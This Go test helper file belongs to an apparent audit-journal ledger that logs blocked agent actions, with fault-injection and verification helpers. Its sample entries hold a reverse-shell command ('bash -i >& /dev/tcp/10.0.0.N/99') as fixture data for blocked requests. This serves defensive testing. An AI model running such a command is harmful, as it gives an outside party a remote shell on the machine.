package ledger

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

func hideSecret(text []byte) []byte {
	return bytes.ReplaceAll(text, []byte("hunter2"), []byte("[REDACTED_SECRET]"))
}

// smallConfig has files so small that a few entries fill one.
func smallConfig() Config {
	cfg := Default()
	cfg.SegmentBytes, cfg.MaxBytes = 65536, 1<<30
	return cfg
}

// MustOpen opens a journal and closes it with the test.
func MustOpen(tb testing.TB, dir string, cfg Config, deps Deps) *Ledger {
	tb.Helper()
	if deps.Redact == nil {
		deps.Redact = hideSecret
	}
	l, err := Open(dir, cfg, deps)
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() { l.Close() })
	return l
}

func mustAppend(tb testing.TB, l *Ledger, n int) {
	tb.Helper()
	for i := range n {
		if _, err := l.Append(tb.Context(), sample(i)); err != nil {
			tb.Fatal(err)
		}
	}
}

// MustOpenIdle opens a journal that only the test's own goroutine writes, by mustCommit.
func MustOpenIdle(tb testing.TB, dir string, cfg Config, deps Deps) *Ledger {
	tb.Helper()
	deps.Redact = hideSecret
	l, err := open(dir, cfg, deps)
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(l.closeFiles)
	return l
}

func commitOne(tb testing.TB, l *Ledger) error {
	tb.Helper()
	e := sample(int(l.w.seq))
	if err := l.prepare(&e); err != nil {
		tb.Fatal(err)
	}
	return l.commit([]*request{{entry: e}})
}

func mustCommit(tb testing.TB, l *Ledger, n int) {
	tb.Helper()
	for range n {
		if err := commitOne(tb, l); err != nil {
			tb.Fatal(err)
		}
	}
}

func sample(i int) Entry {
	return Entry{Kind: KindDecision, Action: "block", Risk: 80, Tags: []string{"remote_shell"},
		Reasons: []string{"a reverse shell"}, Source: "operator", Method: "chat.send", SessionKey: "agent:main:main",
		RequestID: fmt.Sprintf("r%d", i), Content: []byte(fmt.Sprintf("bash -i >& /dev/tcp/10.0.0.%d/99", i)),
		File: fmt.Sprintf("blocked-%d-r.json", i)}
}

func mustVerify(tb testing.TB, dir string) Report {
	tb.Helper()
	r, err := OpenReader(dir)
	if err != nil {
		tb.Fatal(err)
	}
	defer r.Close()
	rep, err := r.Verify(tb.Context(), nil)
	if err != nil {
		tb.Fatal(err)
	}
	return rep
}

func wantOK(tb testing.TB, dir string, entries uint64) {
	tb.Helper()
	if rep := mustVerify(tb, dir); !rep.OK() || rep.Entries != entries {
		tb.Fatalf("%d entries, want %d; %v", rep.Entries, entries, rep.Problems)
	}
}

func journalFiles(tb testing.TB, dir string) []string {
	tb.Helper()
	files, err := filepath.Glob(filepath.Join(dir, "journal-*.jsonl"))
	if err != nil {
		tb.Fatal(err)
	}
	return files
}

func mustRead(tb testing.TB, path string) []byte {
	tb.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		tb.Fatal(err)
	}
	return b
}

func mustWrite(tb testing.TB, path string, b []byte) {
	tb.Helper()
	if err := os.WriteFile(path, b, 0o600); err != nil {
		tb.Fatal(err)
	}
}

// copyDir copies a journal so that it can be damaged.
func copyDir(tb testing.TB, from string) string {
	tb.Helper()
	to := tb.TempDir()
	if err := os.CopyFS(to, os.DirFS(from)); err != nil {
		tb.Fatal(err)
	}
	return to
}

func problems(rep Report) string {
	var b strings.Builder
	for _, p := range rep.Problems {
		b.WriteString(p.String() + "\n")
	}
	return b.String()
}

// faults makes files fail.
type faults struct {
	room     atomic.Int64 // bytes until the disk is full; negative = never
	failSync atomic.Bool
}

type faultyFile struct {
	file
	f *faults
}

func (f *faults) wrap(inner file) file { return &faultyFile{inner, f} }

func (f *faultyFile) WriteAt(b []byte, at int64) (int, error) {
	room := f.f.room.Load()
	if room < 0 || int64(len(b)) <= room || len(b) == slotBytes { // the head's blocks exist
		return f.file.WriteAt(b, at)
	}
	n, err := f.file.WriteAt(b[:room], at) // a full disk takes what it can
	if err == nil {
		err = &os.PathError{Op: "write", Path: "journal", Err: syscall.ENOSPC}
	}
	return n, err
}

func (f *faultyFile) Sync() error {
	if f.f.failSync.Load() {
		return &os.PathError{Op: "sync", Path: "journal", Err: syscall.EIO}
	}
	return f.file.Sync()
}

type clock struct{ now atomic.Int64 }

func newClock() *clock {
	c := &clock{}
	c.now.Store(time.Now().UnixMilli())
	return c
}

func (c *clock) Now() time.Time          { return time.UnixMilli(c.now.Load()) }
func (c *clock) advance(d time.Duration) { c.now.Add(d.Milliseconds()) }
